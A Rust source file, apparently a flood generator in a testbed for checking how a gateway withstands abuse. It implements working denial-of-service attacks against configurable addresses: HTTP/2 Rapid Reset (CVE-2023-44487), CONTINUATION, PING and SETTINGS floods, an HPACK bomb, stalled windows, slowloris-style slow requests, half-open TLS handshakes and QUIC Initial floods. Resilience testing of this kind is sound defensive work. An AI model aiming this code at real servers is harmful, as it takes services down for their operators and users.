//! What a flooding endpoint sends: a process of its own, as a pod's program is, in the pod's network namespace.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};
use clap::{Args, ValueEnum};
use namegate_testbed::client;
use namegate_testbed::http2::{
    AGAIN, CONTINUATION, HEADERS, PING, RESET, SETTINGS, WHOLE_REQUEST, frame, get, hello, indexed,
};
use namegate_testbed::quic::unfinished;
use nix::sys::resource::{Resource, getrlimit, setrlimit};
use tokio::io::{AsyncReadExt, AsyncWriteExt, split};
use tokio::net::TcpStream;

use crate::ground::{BIG, SILENT};

/// How long a connection may take to come about.
const PATIENCE: Duration = Duration::from_secs(5);
/// After a connection that was refused or closed.
const PAUSE: Duration = Duration::from_millis(20);
/// Between two parts of what is slow.
const TRICKLE: Duration = Duration::from_secs(5);
/// Threads that send Initials: the rate of two cores.
const QUIC_THREADS: u16 = 2;

/// A kind of flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Kind {
    /// HTTP/2 streams that are reset as soon as they are open (CVE-2023-44487).
    RapidReset,
    /// HTTP/2 heads that never end.
    Continuation,
    /// HTTP/2 PING frames.
    Ping,
    /// HTTP/2 SETTINGS frames.
    Settings,
    /// HTTP/2 heads that are small when packed and large when not, of requests without an answer.
    Hpack,
    /// HTTP/2 responses that are not read.
    StalledWindows,
    /// HTTP/1 responses that are not read.
    Unread,
    /// HTTP/1 heads of 60 KiB that go on byte by byte.
    SlowHeads,
    /// HTTP/1 bodies that go on byte by byte.
    SlowBodies,
    /// TCP connections without a byte, and the beginnings of TLS handshakes.
    HalfOpen,
    /// QUIC Initials with the beginning of a handshake.
    QuicInitials,
}

/// What to send, and where to.
#[derive(Args)]
pub(crate) struct Generate {
    /// Kind of the flood.
    kind: Kind,
    /// The server of HTTP.
    http: SocketAddr,
    /// The server of TLS.
    tls: SocketAddr,
    /// The server of QUIC.
    quic: SocketAddr,
}

/// Sends until the process ends.
pub(crate) fn run(generate: &Generate) -> Result<()> {
    let (_, most) = getrlimit(Resource::RLIMIT_NOFILE)?;
    setrlimit(Resource::RLIMIT_NOFILE, most, most).context("raising the limit of descriptors")?;
    if generate.kind == Kind::QuicInitials {
        let threads = (0..QUIC_THREADS).map(|at| initials(at, generate.quic)).collect::<Result<Vec<_>>>()?;
        for thread in threads {
            drop(thread.join());
        }
        return Ok(());
    }
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build()?;
    runtime.block_on(connections(generate));
    Ok(())
}

/// A thread that sends Initials, each of another connection, from many ports.
fn initials(thread: u16, to: SocketAddr) -> Result<std::thread::JoinHandle<()>> {
    const SOCKETS: u16 = 64;
    const DATAGRAMS: u64 = 4_096;
    let any = IpAddr::V4(Ipv4Addr::UNSPECIFIED);
    let sockets = (0..SOCKETS).map(|_| UdpSocket::bind((any, 0))).collect::<std::io::Result<Vec<_>>>()?;
    let datagrams: Vec<_> =
        (0..DATAGRAMS).map(|number| unfinished(u64::from(thread) * DATAGRAMS + number, b"flood")).collect();
    Ok(std::thread::spawn(move || {
        for (datagram, socket) in datagrams.iter().cycle().zip(sockets.iter().cycle()) {
            // A full queue is no matter.
            let _ = socket.send_to(datagram, to);
        }
    }))
}

/// What the connections of a kind do: how many there are, what each begins with, and what it goes on with.
struct Load {
    count: usize,
    first: Vec<u8>,
    /// Sent again and again.
    more: Option<More>,
    /// What comes back is read.
    reads: bool,
}

/// What is sent again and again.
enum More {
    /// As fast as it goes.
    Fast(Vec<u8>),
    /// One part in [`TRICKLE`].
    Slow(&'static [u8]),
    /// Streams that are opened and reset, as fast as it goes.
    Resets,
}

fn load(kind: Kind) -> Load {
    const STREAMS: u32 = 100;
    let streams = |block: &[u8]| -> Vec<u8> {
        (0..STREAMS).flat_map(|at| frame(HEADERS, WHOLE_REQUEST, 2 * at + 1, block)).collect()
    };
    let fast =
        |first: Vec<u8>, part: &[u8]| Load { count: 64, first, more: Some(More::Fast(part.repeat(64))), reads: true };
    match kind {
        Kind::RapidReset => Load { count: 64, first: hello(), more: Some(More::Resets), reads: true },
        Kind::Continuation => {
            let open = frame(HEADERS, 0, 1, &get("/v1"));
            let field = [&[0x10, 1, b'x', 100][..], &[b'a'; 100]].concat();
            fast([hello(), open].concat(), &frame(CONTINUATION, 0, 1, &field.repeat(100)))
        }
        Kind::Ping => fast(hello(), &frame(PING, 0, 0, &[0x5a; 8])),
        Kind::Settings => fast(hello(), &frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0].repeat(6))),
        Kind::Hpack => {
            let bomb = [&get(SILENT)[..], &indexed(4_000), &[AGAIN; 13]].concat();
            let again = [&get(SILENT)[..], &[AGAIN; 14]].concat();
            let rest = (1..STREAMS).flat_map(|at| frame(HEADERS, WHOLE_REQUEST, 2 * at + 1, &again)).collect();
            let first = [hello(), frame(HEADERS, WHOLE_REQUEST, 1, &bomb), rest].concat();
            Load { count: 1_000, first, more: None, reads: true }
        }
        Kind::StalledWindows => {
            Load { count: 400, first: [hello(), streams(&get(BIG))].concat(), more: None, reads: false }
        }
        Kind::Unread => {
            let first = format!("GET {BIG} HTTP/1.1\r\nHost: a.test\r\n\r\n").into_bytes();
            Load { count: 8_192, first, more: None, reads: false }
        }
        Kind::SlowHeads => {
            let first = [&b"GET /v1 HTTP/1.1\r\nHost: a.test\r\nX-Slow: "[..], &vec![b'a'; 60_000]].concat();
            Load { count: 8_192, first, more: Some(More::Slow(b"a")), reads: true }
        }
        Kind::SlowBodies => {
            let first = b"POST /v1 HTTP/1.1\r\nHost: a.test\r\nContent-Length: 1000000\r\n\r\n".to_vec();
            Load { count: 8_192, first, more: Some(More::Slow(b"a")), reads: true }
        }
        Kind::HalfOpen | Kind::QuicInitials => {
            // A handshake of 60,000 bytes in records of 16,000, of which the last is not whole.
            let hello = [&[1, 0, 0xea, 0x60, 3, 3][..], &vec![0; 50_000]].concat();
            let records = hello.chunks(16_000).flat_map(|part| {
                let length = u16::try_from(part.len()).unwrap_or(0).to_be_bytes();
                [&[0x16, 3, 1][..], &length, part].concat()
            });
            Load { count: 8_192, first: records.collect(), more: Some(More::Slow(b"")), reads: true }
        }
    }
}

/// Keeps all connections of a kind, and opens those anew that end.
async fn connections(generate: &Generate) {
    let load = Arc::new(load(generate.kind));
    let is_half_open = generate.kind == Kind::HalfOpen;
    let to = if is_half_open { generate.tls } else { generate.http };
    let tasks: Vec<_> = (0..load.count)
        .map(|at| {
            let load = Arc::clone(&load);
            // Half of those that are half open say nothing at all.
            let is_silent = is_half_open && at % 2 == 0;
            tokio::spawn(async move {
                loop {
                    if let Ok(stream) = client::connect(to, PATIENCE).await {
                        converse(stream, &load, is_silent).await;
                    }
                    tokio::time::sleep(PAUSE).await;
                }
            })
        })
        .collect();
    for task in tasks {
        let _ = task.await; // A panic was shown when it happened.
    }
}

/// One connection, until its other side ends it.
async fn converse(stream: TcpStream, load: &Load, is_silent: bool) {
    let (mut read, mut write) = split(stream);
    let writing = async {
        if is_silent {
            return std::future::pending().await;
        }
        write.write_all(&load.first).await?;
        match &load.more {
            None => std::future::pending().await,
            Some(More::Slow(part)) => loop {
                tokio::time::sleep(TRICKLE).await;
                write.write_all(part).await?;
            },
            Some(More::Fast(part)) => loop {
                write.write_all(part).await?;
            },
            Some(More::Resets) => resets(&mut write).await,
        }
    };
    let reading = async {
        if !load.reads {
            return std::future::pending().await;
        }
        let mut bytes = vec![0; 16 << 10];
        while read.read(&mut bytes).await.is_ok_and(|count| count > 0) {}
    };
    tokio::select! {
        _ = writing => {}
        () = reading => {}
    }
}

/// Opens streams and resets them, until the numbers of streams end.
async fn resets(write: &mut (impl AsyncWriteExt + Unpin)) -> std::io::Result<()> {
    const BATCH: u32 = 50;
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let block = get("/v1");
    for batch in 0..(1 << 30) / BATCH {
        let one = |at| {
            let stream = 2 * (batch * BATCH + at) + 1;
            [frame(HEADERS, WHOLE_REQUEST, stream, &block), frame(RESET, 0, stream, &CANCEL)].concat()
        };
        write.write_all(&(0..BATCH).flat_map(one).collect::<Vec<_>>()).await?;
    }
    Ok(())
}
